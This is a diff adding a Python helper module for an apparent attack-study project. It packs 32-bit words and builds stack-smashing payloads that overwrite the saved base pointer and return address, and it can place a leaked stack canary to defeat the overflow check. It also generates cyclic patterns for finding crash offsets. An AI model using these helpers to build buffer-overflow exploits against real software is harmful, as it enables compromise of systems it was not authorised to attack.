@@ -1,0 +1,79 @@
+"""Payload construction helpers shared by the attack implementations."""
+
+from __future__ import annotations
+
+import itertools
+import string
+import struct
+
+
+def p32(value: int) -> bytes:
+    """Pack a 32-bit little-endian word (wraps negatives)."""
+    return struct.pack("<I", value & 0xFFFFFFFF)
+
+
+def u32(data: bytes, offset: int = 0) -> int:
+    """Unpack a 32-bit little-endian word."""
+    return struct.unpack_from("<I", data, offset)[0]
+
+
+def smash(
+    offset_to_return: int,
+    new_return: int,
+    *after: int,
+    prefix: bytes = b"",
+    saved_bp: int | None = None,
+    canary: int | None = None,
+    canary_offset: int | None = None,
+    fill: bytes = b"A",
+) -> bytes:
+    """Build a classic stack-smashing payload.
+
+    Layout written into the buffer::
+
+        [prefix][fill ...][canary?][saved-bp][new-return][after ...]
+
+    ``offset_to_return`` is the distance from the buffer start to the
+    return-address slot (from :class:`~repro.attacks.study.OverflowSite`).
+    If a ``canary`` value is supplied (e.g. from an info leak), it is
+    placed at ``canary_offset`` so the epilogue check passes; likewise
+    ``saved_bp`` preserves the saved base pointer when the victim still
+    needs a sane frame after the overwrite.
+    """
+    body = bytearray(prefix)
+    if canary is not None:
+        if canary_offset is None:
+            canary_offset = offset_to_return - 8
+        while len(body) < canary_offset:
+            body += fill
+        del body[canary_offset:]
+        body += p32(canary)
+    while len(body) < offset_to_return - 4:
+        body += fill
+    del body[offset_to_return - 4:]
+    body += p32(saved_bp) if saved_bp is not None else fill * 4
+    body += p32(new_return)
+    for word in after:
+        body += p32(word)
+    return bytes(body)
+
+
+def cyclic(length: int) -> bytes:
+    """A pattern of unique 4-byte tags for crash-offset discovery."""
+    letters = string.ascii_lowercase
+    out = bytearray()
+    for combo in itertools.product(letters, repeat=4):
+        out += "".join(combo).encode()
+        if len(out) >= length:
+            break
+    return bytes(out[:length])
+
+
+def cyclic_find(value: int) -> int:
+    """Offset of a crash value (from IP) within :func:`cyclic` output."""
+    needle = p32(value)
+    haystack = cyclic(4 * 26 ** 2)
+    position = haystack.find(needle)
+    if position < 0:
+        raise ValueError(f"value 0x{value:08x} not from a cyclic pattern")
+    return position
